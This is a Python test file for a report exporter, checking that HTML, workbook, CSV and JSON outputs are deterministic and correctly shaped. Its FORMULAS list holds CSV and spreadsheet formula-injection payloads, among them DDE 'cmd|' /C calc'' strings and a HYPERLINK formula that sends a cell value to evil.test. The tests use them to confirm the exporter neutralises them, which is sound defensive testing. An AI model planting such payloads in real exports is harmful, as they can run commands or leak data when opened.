"""Reports and exports: what each format holds, that nothing in it is alive, and that files appear whole."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from outputs_nouns import WHY, empty, hostile_report, mood, quote, report, row

from listening.errors import InputError
from listening.outputs import write_report
from listening.outputs.journey_table import columns, widths
from listening.outputs.text import LONGEST_CELL, LOST
from listening.outputs.wording import trouble
from listening.outputs.workbook import render as as_xlsx
from listening.types import Report, TouchpointRow

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "+49 170",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "'=1+1",
    "''=1+1",
    "http://evil.test",
    "mailto:a@b.test",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "{=1+1}",
    "007",
    "",
)


def written(made: Report, folder: Path, name: str) -> Path:
    write_report(made, folder / name)
    return folder / name


def sheets(path: Path) -> Iterator[tuple[str, list[tuple[object, ...]]]]:
    book = openpyxl.load_workbook(path)
    for page in book:
        yield page.title, list(page.iter_rows(values_only=True))


class TestFormats:
    @pytest.mark.parametrize("ending", [".html", ".xlsx", ".csv", ".json", ".JSON"])
    def test_the_ending_chooses_and_the_same_report_gives_the_same_bytes(self, tmp_path: Path, ending: str) -> None:
        first, second = (written(report(), tmp_path, name + ending).read_bytes() for name in "ab")
        assert first == second
        assert len(first) > 500

    @pytest.mark.parametrize("name", ["r.doc", "r", "r.html.bak"])
    def test_another_ending_names_those_that_work(self, tmp_path: Path, name: str) -> None:
        with pytest.raises(InputError, match=r"end it in \.html, \.xlsx, \.csv, \.json, \.pdf"):
            write_report(report(), tmp_path / name)
        assert list(tmp_path.iterdir()) == []

    def test_a_missing_folder_is_named(self, tmp_path: Path) -> None:
        with pytest.raises(InputError, match=r"missing/r\.json cannot be written"):
            write_report(report(), tmp_path / "missing" / "r.json")

    def test_the_old_file_stays_when_the_new_one_cannot_take_its_place(self, tmp_path: Path) -> None:
        (tmp_path / "r.json").mkdir()
        with pytest.raises(InputError, match="cannot be written"):
            write_report(report(), tmp_path / "r.json")
        assert [path.name for path in tmp_path.iterdir()] == ["r.json"]

    def test_nothing_heavy_is_imported_before_a_verb_is_called(self) -> None:
        code = (
            "import sys, listening.outputs; print([m for m in ('jinja2','xlsxwriter','smtplib') if m in sys.modules])"
        )
        ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)  # noqa: S603 -- ours
        assert ran.stdout.strip() == "[]"


class TestWorkbook:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_no_text_becomes_a_formula_or_a_link(self, tmp_path: Path, text: str) -> None:
        book = openpyxl.load_workbook(written(hostile_report(text), tmp_path, "r.xlsx"))
        cells = [one for page in book for line in page.iter_rows() for one in line]
        assert {one.data_type for one in cells} <= {"s", "n", "d", "inlineStr"}
        assert [one for one in cells if one.hyperlink] == []
        assert book["Evidence"]["C2"].value == (text.replace("\r", "\n") or None)

    def test_what_a_cell_cannot_hold_is_replaced_or_cut(self, tmp_path: Path) -> None:
        made = report(
            pain_points=(row(name="a\x00\x1b\ud800b", quotes=(quote("ä" * 40_000),), unspoken_share=math.nan),)
        )
        found = dict(sheets(written(made, tmp_path, "r.xlsx")))
        line = dict(zip(*found["Pain points"], strict=True))
        assert line["Name"] == f"a{LOST * 3}b"
        assert line["Unspoken"] is None
        assert found["Evidence"][1][2] == "ä" * (LONGEST_CELL - 1) + "…"

    def test_an_empty_report_has_its_heads(self, tmp_path: Path) -> None:
        found = dict(sheets(written(empty(), tmp_path, "r.xlsx")))
        assert [len(found[name]) for name in ("Pain points", "Evidence", "Sources")] == [1, 1, 1]
        assert found["Changes"][1][0] == "Nothing changed since 1 January 2026."


class TestCsv:
    def read(self, path: Path) -> list[list[str]]:
        with path.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.reader(file))

    def test_one_line_a_pain_point(self, tmp_path: Path) -> None:
        head, first, second, _ = self.read(written(report(), tmp_path, "r.csv"))
        line = dict(zip(head, first, strict=True))
        assert (line["map"], line["since"], line["id"], line["priority"]) == (
            "hire",
            "2026-01-01",
            "pp-1111111111",
            "30",
        )
        assert (line["trend"], line["sources"]) == ("2 2 3 1 2 4 3 2 3 4 2 3", "reddit | yard")
        line = dict(zip(head, second, strict=True))
        assert (line["priority"], line["emergences"], line["quote_url"]) == ("", WHY, "https://yard.test/t/17/3")

    @pytest.mark.parametrize("text", FORMULAS)
    def test_no_cell_begins_like_a_formula_and_all_can_be_read_back(self, tmp_path: Path, text: str) -> None:
        lines = self.read(written(hostile_report(text), tmp_path, "r.csv"))
        assert {len(line) for line in lines} == {40}
        assert [one for line in lines for one in line if re.match(r"\s*[=+\-@\t\r\uff1d]", one)] == []
        name = lines[1][lines[0].index("name")]
        assert re.sub(r"^'(?='*\s*[=+\-@\t\r\uff1d])", "", name) == text

    def test_the_columns_are_those_of_the_description(self, tmp_path: Path) -> None:
        from listening.outputs import csv_file  # noqa: PLC0415 -- only its description is read

        listed = (csv_file.render.__doc__ or "").partition("for ever:")[2].partition(".")[0]
        assert self.read(written(empty(), tmp_path, "r.csv")) == [re.findall(r"\w+", listed)]


class TestJson:
    def test_names_are_those_of_the_description(self, tmp_path: Path) -> None:
        from listening.outputs import json_file  # noqa: PLC0415 -- only its description is read

        made = json.loads(written(report(), tmp_path, "r.json").read_bytes())
        told = re.sub(r"\([^)]*\)", "", json_file.render.__doc__ or "")
        lists = dict(re.findall(r"^    (\w+): ([\w,\s]+?)$(?=\n    \S|\s*\Z)", told, re.MULTILINE))
        parts = {"report": made, "quotes": made["pain_points"][0]["quotes"][0]}
        named = ("stages", "touchpoints", "pain_points", "sources", "health", "owners", "changes")
        parts |= {name: made[name][0] for name in named}
        assert {name: list(part) for name, part in parts.items()} == {
            name: re.findall(r"\w+", names) for name, names in lists.items()
        }

    def test_values_are_plain_and_no_person_can_be_followed(self, tmp_path: Path) -> None:
        path = written(report(), tmp_path, "r.json")
        made = json.loads(path.read_bytes())
        assert (made["format"], made["since"], made["made_at"]) == (
            "listening.report.v1", "2026-01-01", "2026-04-01T05:30:00+00:00",
        )  # fmt: skip
        assert made["stages"][6] == {
            "stage": "stay", "name": "Stay a member", "assumed": 1.0, "mean": None, "low": None, "high": None,
            "people": 0, "blind": True, "owner": "",
        }  # fmt: skip
        assert b"p-1" not in path.read_bytes().replace(b"pp-1", b"")

    def test_what_is_no_number_is_null(self, tmp_path: Path) -> None:
        made = report(
            moods=(replace(mood("use", "Ride", math.inf, 0.0), mean=math.nan),),
            pain_points=(row(unspoken_share=-math.inf),),
        )
        found = json.loads(written(made, tmp_path, "r.json").read_bytes(), parse_constant=pytest.fail)
        assert (found["stages"][0]["mean"], found["stages"][0]["assumed"], found["stages"][0]["blind"]) == (
            None,
            None,
            True,
        )
        assert found["pain_points"][0]["unspoken_share"] is None


@pytest.mark.shared
def test_naughty_strings_come_back_as_they_were(shared: Path, tmp_path: Path) -> None:
    texts = json.loads((shared / "corpora" / "blns" / "blns.json").read_text())
    made = report(
        pain_points=tuple(row(id=f"pp-{n}", name=text, quotes=(quote(text),)) for n, text in enumerate(texts))
    )
    from_json = json.loads(written(made, tmp_path, "r.json").read_bytes())
    assert [one["name"] for one in from_json["pain_points"]] == texts
    book = dict(sheets(written(made, tmp_path, "r.xlsx")))
    assert len(book["Pain points"]) == len(book["Evidence"]) == 1 + len(texts)
    kept = [
        re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", LOST, text).replace("\r", "\n") or None for text in texts
    ]
    assert [line[1] for line in book["Pain points"][1:]] == kept
    with written(made, tmp_path, "r.csv").open(encoding="utf-8-sig", newline="") as file:
        assert len(list(csv.reader(file))) == 1 + len(texts)
    assert written(made, tmp_path, "r.html").read_text(encoding="utf-8").count("<article") == len(texts)


@pytest.mark.parametrize(
    ("told", "said"),
    [
        ("yard: 2026-03-09: it did not answer -> wait", "yard: 9 March 2026: it did not answer; wait"),
        ("no good visit this week (last: 2026-02-27); 503", "no good visit this week (last: 27 February 2026); 503"),
        ("0 posts: https://a.test/2026-03-09/b-2026-03-09", "0 posts: https://a.test/2026-03-09/b-2026-03-09"),
        ("on 2026-13-09, and no day", "on 2026-13-09, and no day"),
        ("", ""),
    ],
)
def test_trouble_is_said_in_sentences_with_dates_as_everywhere_else(told: str, said: str) -> None:
    assert trouble(told) == said


def test_every_pain_and_touchpoint_stands_once_on_the_map() -> None:
    strays = (
        row(id="pp-a", stage="none", touchpoint=""),
        row(id="pp-b", stage="use", touchpoint="checkout"),
        row(id="pp-c", stage="gone", touchpoint="helmet"),
    )
    lost = TouchpointRow("old", "Old counter", "gone", "blind", 0, 0)
    made = report(pain_points=(*report().pain_points, *strays), touchpoints=(*report().touchpoints, lost))
    found = columns(made)
    assert [one.name for one in found] == [*(one.name for one in made.moods), "Fits no stage"]
    assert sorted(pain.id for one in found for pain in one.pains) == sorted(one.id for one in made.pain_points)
    assert [pain.id for pain in found[4].loose] == ["pp-b"]
    assert ([pain.id for pain in found[7].loose], found[7].places[0].row) == (["pp-a", "pp-c"], lost)
    assert sum(len(one.places) for one in found) == len(made.touchpoints)


def test_on_paper_a_stage_of_many_pains_is_wider_within_bounds() -> None:
    assert widths([]) == []
    empty = columns(report(pain_points=(), touchpoints=()))
    assert set(widths(empty)) == {round(100 / len(empty), 1)}
    many = columns(report(pain_points=tuple(row(id=f"pp-{number}") for number in range(50))))
    found = widths(many)
    assert sum(found) == pytest.approx(100, abs=1)
    assert max(found) == found[[one.stage for one in many].index("use")]
    assert 2 <= max(found) / min(found) <= 2.6


def test_a_workbook_of_a_thousand_pain_points_opens() -> None:
    made = report(pain_points=tuple(row(id=f"pp-{number}") for number in range(1000)))
    page = openpyxl.load_workbook(io.BytesIO(as_xlsx(made)), read_only=True)["Evidence"]
    assert sum(1 for _ in page.iter_rows()) == 3001
